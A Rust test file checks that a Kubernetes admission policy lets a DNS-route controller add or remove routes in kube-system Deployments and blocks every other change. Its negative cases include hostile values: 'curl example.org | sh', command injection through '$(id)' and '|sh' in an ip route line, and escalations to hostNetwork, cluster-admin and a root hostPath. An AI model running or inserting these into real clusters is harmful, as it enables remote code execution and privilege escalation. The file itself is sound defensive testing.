//! The policy that bounds what the controller may do to Deployments of `kube-system`.

use causeway_api::dns::patch;
use causeway_core::dns::Route;
use causeway_core::dns::deployment::{Inherited, Want, plan};
use kube_cel::{VapEvaluator, VapExpression};
use serde_json::{Value, json};

use super::{deployment, new_form, old_form};

const ROW: &str = "ip -4 route add 10.96.0.1 via 10.244.0.1 dev net1;";

/// The validations of the shipped policy that are about the object, with its variables in their places.
fn validations() -> Vec<VapExpression> {
    let text = include_str!("../../../../deploy/dns-policy.yaml");
    let documents: Vec<Value> = serde_saphyr::from_multiple(text).expect("YAML");
    let spec = &documents[0]["spec"];
    assert_eq!(documents[1]["spec"]["policyName"], documents[0]["metadata"]["name"]);
    let mut variables: Vec<(String, String)> = spec["variables"]
        .as_array()
        .expect("variables")
        .iter()
        .map(|it| {
            (
                format!("variables.{}", it["name"].as_str().expect("a name")),
                format!("({})", it["expression"].as_str().expect("text")),
            )
        })
        .collect();
    variables.sort_by_key(|(name, _)| std::cmp::Reverse(name.len()));
    let all = spec["validations"].as_array().expect("validations").iter();
    let about = all.map(|it| it["expression"].as_str().expect("text")).filter(|it| !it.contains("request."));
    let whole =
        |text: &str| variables.iter().fold(text.to_owned(), |text, (name, value)| text.replace(name, value));
    about
        .map(|text| VapExpression { expression: whole(text), message: None, message_expression: None })
        .collect()
}

fn allows(old: &Value, new: &Value) -> bool {
    let evaluator = VapEvaluator::builder().object(new.clone()).old_object(old.clone()).build();
    let results = evaluator.evaluate(&validations());
    assert_eq!(results.len(), 2);
    results.iter().all(|it| it.passed)
}

/// What the controller makes of a Deployment.
fn with_route(object: &Value) -> Value {
    let seen = deployment(object.clone());
    let route = Route { to: "10.96.0.10".parse().expect("it"), via: "10.244.0.1".parse().expect("it") };
    let edit = plan(&seen, Want::Route(route, Inherited::Theirs), None).edit.expect("an edit");
    let body = patch::deployment(&edit, &seen);
    let mut object = object.clone();
    match body.pointer("/spec/template/spec/initContainers/0/command") {
        Some(command) => object["spec"]["template"]["spec"]["initContainers"][1]["command"] = command.clone(),
        None => json_patch::merge(&mut object, &body),
    }
    object
}

#[test]
fn a_route_comes_and_goes_under_the_policy_in_either_form() {
    for before in [old_form(ROW), old_form("set -e\nexit 0"), old_form(""), new_form("[]")] {
        let with = with_route(&before);
        assert!(allows(&before, &with), "{with:#}");
        assert!(allows(&with, &before), "{with:#}");
    }
}

#[test]
fn nothing_else_of_a_dns_server_may_be_changed() {
    let before = old_form(ROW);
    let spec = "/spec/template/spec";
    for (place, value) in [
        ("/initContainers/1/command/2", json!("curl example.org | sh")),
        (
            "/initContainers/1/command/2",
            json!(format!("{ROW}ip -4 route add 10.96.0.10 via $(id) dev net1;")),
        ),
        (
            "/initContainers/1/command/2",
            json!(format!("{ROW}ip -4 route add 10.96.0.10 via 10.244.0.1 dev net1|sh;")),
        ),
        ("/initContainers/1/command/0", json!("bash")),
        ("/initContainers/1/image", json!("other:1")),
        ("/initContainers/1/securityContext", json!({ "privileged": false })),
        ("/initContainers/0/command/2", json!("false")),
        ("/initContainers", json!([])),
        ("/containers/0/image", json!("other:1")),
        ("/hostNetwork", json!(true)),
        ("/serviceAccountName", json!("cluster-admin")),
        ("/volumes", json!([{ "name": "x", "hostPath": { "path": "/" } }])),
    ] {
        let mut after = before.clone();
        let (parent, field) = place.rsplit_once('/').expect("a place");
        let parent = after.pointer_mut(&format!("{spec}{parent}")).expect("a parent");
        match parent {
            Value::Array(list) => list[field.parse::<usize>().expect("a number")] = value,
            other => other[field] = value,
        }
        assert!(!allows(&before, &after), "{place}");
    }
}
